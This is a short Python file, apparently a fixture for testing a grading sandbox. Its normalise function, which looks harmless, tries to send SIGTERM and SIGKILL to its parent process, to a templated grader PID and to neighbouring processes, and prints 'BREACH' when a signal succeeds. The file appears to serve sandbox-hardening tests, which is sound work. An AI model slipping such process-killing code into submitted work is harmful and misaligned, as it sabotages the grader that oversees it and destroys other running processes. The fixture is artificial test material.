"""Sends signals to its parent, to the parent of the grader, to process 1 and to the neighbours of its own number."""

import os
import signal

import numpy as np


def double(x):
    return 2 * x


def normalise(a):
    own = os.getpid()
    for pid in (os.getppid(), int("{{grader}}"), *range(own - 5, own), *range(own + 1, own + 6)):
        if pid < 1:
            continue
        for number in (0, signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, number)
                print(f"BREACH signal {int(number)} to {pid}")
            except OSError as error:
                print(pid, error)
    return a / a.sum(axis=0, keepdims=True)
